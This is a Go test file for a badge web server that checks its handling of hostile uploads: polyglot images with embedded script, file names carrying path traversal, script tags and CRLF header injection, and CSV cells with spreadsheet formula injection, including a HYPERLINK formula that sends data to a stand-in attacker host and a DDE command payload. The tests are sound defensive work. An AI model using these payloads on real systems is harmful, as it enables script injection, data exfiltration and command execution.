package server_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"fmt"
	"image"
	"image/jpeg"
	"io"
	"mime/multipart"
	"net/http"
	"net/textproto"
	"regexp"
	"strings"
	"testing"

	"github.com/ecusson/ecusson/internal/achievement"
	"github.com/ecusson/ecusson/internal/hostile"
)

// jpegWith is a photograph with a text inside.
func jpegWith(t *testing.T, text string) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := jpeg.Encode(&b, image.NewGray(image.Rect(0, 0, 8, 8)), nil); err != nil {
		t.Fatal(err)
	}
	comment := append([]byte{0xff, 0xfe, byte((len(text) + 2) >> 8), byte(len(text) + 2)}, text...)
	return append(append([]byte("\xff\xd8"), comment...), append(b.Bytes()[2:], text...)...)
}

var fileName = regexp.MustCompile(`/file/([0-9a-f]{64}\.[a-z]+)`)

// TestPolyglots brings pictures that are something else as well: what is stored is
// the picture alone, drawn anew, and is served as nothing but a picture.
func TestPolyglots(t *testing.T) {
	t.Parallel()
	onOne(t, func(t *testing.T, s *site) {
		const script = "<html><script>alert(1)</script>"
		w := s.workshop(t)
		at, _ := w.begin(t, "Coffrage")
		for name, data := range map[string][]byte{
			"HTML in a PNG":   append(hostile.PNG(1, 1, hostile.Chunk("tEXt", []byte("Comment\x00"+script))), script...),
			"a ZIP in a PNG":  append(hostile.PNG(1, 1), hostile.ZIP("xl/workbook.xml", script)...),
			"a badge":         hostile.PNG(1, 1, hostile.Text("openbadgecredential", false, []byte(`{"html":"`+script+`"}`))),
			"HTML in a photo": jpegWith(t, script),
		} {
			logo := w.creator.upload("/s/atelier/settings/logo", "logo", name, data).want(t, http.StatusOK)
			form := w.creator.get(at+"/edit").want(t, http.StatusOK)
			drawn := w.creator.upload(at+"/edit", "picture", name, data, filled(form.hidden(t, "seen"))...).want(t, http.StatusOK, "Le badge est enregistré.")
			for _, stored := range []string{fileName.FindString(logo.text), "/file/" + drawn.hidden(t, "picture-png")} {
				got := s.browser().get(stored).want(t, http.StatusOK).lacks(t, "script", "xl/workbook", "openbadge")
				if kind := got.Header.Get("Content-Type"); kind != "image/png" || http.DetectContentType([]byte(got.text)) != kind {
					t.Errorf("%s: served as %s", name, kind)
				}
			}
		}
	})
}

// send uploads a file under a name and a type that are written as they are.
func (b *browser) send(path, field, disposition, kind string, data []byte) answer {
	b.s.t.Helper()
	var body bytes.Buffer
	w := multipart.NewWriter(&body)
	part, err := w.CreatePart(textproto.MIMEHeader{"Content-Disposition": {`form-data; name="` + field + `"; ` + disposition}, "Content-Type": {kind}})
	if err != nil {
		b.s.t.Fatal(err)
	}
	_, _ = part.Write(data)
	if err := w.Close(); err != nil {
		b.s.t.Fatal(err)
	}
	r, err := http.NewRequest(http.MethodPost, b.address(path), &body)
	if err != nil {
		b.s.t.Fatal(err)
	}
	r.Header.Set("Content-Type", w.FormDataContentType())
	return b.do(r)
}

// TestFileNames brings good files under names and types that lie: the name is a
// text like any other, and the type is not believed.
func TestFileNames(t *testing.T) {
	t.Parallel()
	onBoth(t, func(t *testing.T, s *site) {
		c := s.contest(t)
		for _, name := range []string{
			`filename="../../../etc/passwd"`, `filename="C:\\Windows\\win.ini"`, `filename="a%22%3E%3Cscript%3Ealert(1)%3C/script%3E.csv"`,
			`filename*=UTF-8''%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E`, `filename*=UTF-8''a%00b.csv`, `filename*=UTF-8''a%0D%0AX-Evil:%201.csv`,
			`filename*=UTF-8''%E2%80%AEvsc.exe`, `filename*=UTF-8''%FF%FE.csv`, "filename=\"\xff\xfe.csv\"", `filename="` + strings.Repeat("é", 10_000) + `"`,
			`filename=""`, `filename=".."`, `filename="/"`,
		} {
			got := c.admin.send("/s/genies/lists", "file", name, "text/html", contestList(3))
			if got.StatusCode != http.StatusOK && got.StatusCode != http.StatusUnprocessableEntity {
				t.Errorf("%.60s: %d", name, got.StatusCode)
			}
			for _, page := range []answer{got, c.admin.get("/s/genies/lists")} {
				for _, raw := range []string{"<script>alert", "etc/", "\x00", "\u202e", "\ufffd", "\xff"} {
					if strings.Contains(page.text, raw) {
						t.Errorf("%.60s: %s says %q", name, page.Request.URL.Path, raw)
					}
				}
				if page.Header.Get("X-Evil") != "" || len(page.text) > 200_000 {
					t.Errorf("%.60s: %d bytes, headers %v", name, len(page.text), page.Header)
				}
			}
		}
		// What was brought as a page is none when it is had again.
		a := s.give(t, c, c.part, "amina@elsewhere.example", "Amina")
		amina := s.signIn("amina@mail.example")
		for form, want := range map[string]string{".json": "application/json", ".svg": "image/svg+xml", ".png": "image/png"} {
			data := []byte(s.browser().fetch("/b/"+a.Public()+form, "*/*").want(t, http.StatusOK).text)
			at := amina.send("/passport/add", "file", `filename="page.html"`, "text/html", data).want(t, http.StatusOK).Request.URL.Path
			h := amina.get(at+"/file").want(t, http.StatusOK).Header
			if h.Get("Content-Type") != want || h.Get("Content-Disposition") != `attachment; filename="badge`+form+`"` || h.Get("Content-Security-Policy") != "default-src 'none'; sandbox" {
				t.Errorf("%s: %v", form, h)
			}
		}
	})
}

// TestFormulas gives a list whose cells are formulas: in the tables that are
// downloaded they are words.
func TestFormulas(t *testing.T) {
	t.Parallel()
	onOne(t, func(t *testing.T, s *site) {
		c := s.contest(t)
		evil := []string{`=HYPERLINK("https://evil.example?"&A1)`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "'=1+1", "=1;=2", "\n=1", "＝1+1", "＋1"}
		bad := s.publish(t, c, achievement.Content{
			Lang: "fr", Kind: "achievement", Assessment: "jury", Texts: map[string]achievement.Texts{"fr": {Name: "=1+1", Description: "A gagné.", Criteria: "Gagner."}},
		})
		var list bytes.Buffer
		w := csv.NewWriter(&list)
		w.Comma = ';'
		_ = w.Write([]string{"Nom", "Courriel", "Badge", "Texte"})
		for i, cell := range evil {
			_ = w.Write([]string{cell, fmt.Sprintf("p%d@mail.example", i), "=1+1", cell})
			_ = w.Write([]string{cell, cell, cell, cell})
		}
		w.Flush()
		shown := c.admin.upload("/s/genies/lists", "file", "=1+1.csv", list.Bytes()).want(t, http.StatusOK)
		at := regexp.MustCompile(`/s/genies/lists/[0-9a-z]{13}`).FindString(shown.text)
		c.admin.get(at).want(t, http.StatusOK)
		leave := []string{}
		for i := range evil {
			leave = append(leave, fmt.Sprintf("leave-%d", 2*i+3), "yes")
		}
		c.admin.post(at+"/correct", leave...).want(t, http.StatusOK)
		c.admin.post(at+"/start").want(t, http.StatusOK)
		if err := s.Worker.Drain(t.Context()); err != nil {
			t.Fatal(err)
		}
		tables := 0
		for _, path := range []string{at + "/report.csv", at + "/rows.csv", "/s/genies/awards.csv", "/s/genies/figures.csv"} {
			got := c.admin.get(path).want(t, http.StatusOK)
			r := csv.NewReader(strings.NewReader(strings.TrimPrefix(got.text, "\ufeff")))
			r.Comma, r.FieldsPerRecord = ';', -1
			rows, err := r.ReadAll()
			if err != nil {
				t.Errorf("%s: %v", path, err)
			}
			for _, row := range rows {
				for _, cell := range row {
					if cell != "" && strings.ContainsRune("=+-@\t\r\n＝", []rune(cell)[0]) && !regexp.MustCompile(`^-?\d+$`).MatchString(cell) {
						t.Errorf("%s has a formula: %q", path, cell)
					}
					if strings.Contains(cell, "1+1") {
						tables++
					}
				}
			}
		}
		if tables < 10 {
			t.Errorf("%d formulas came back: the test asks for the wrong tables", tables)
		}
		book := c.admin.get("/s/genies/figures.xlsx").want(t, http.StatusOK)
		files, err := zip.NewReader(strings.NewReader(book.text), int64(len(book.text)))
		if err != nil {
			t.Fatal(err)
		}
		words := false
		for _, f := range files.File {
			part, err := f.Open()
			if err != nil {
				t.Fatal(err)
			}
			text, err := io.ReadAll(part)
			if err != nil {
				t.Fatal(err)
			}
			words = words || bytes.Contains(text, []byte(">=1+1<"))
			if bytes.Contains(text, []byte("<f>")) || bytes.Contains(text, []byte("<f ")) {
				t.Errorf("%s has a formula", f.Name)
			}
		}
		if !words {
			t.Error("the name of the badge is not in the workbook")
		}
		_ = bad
	})
}
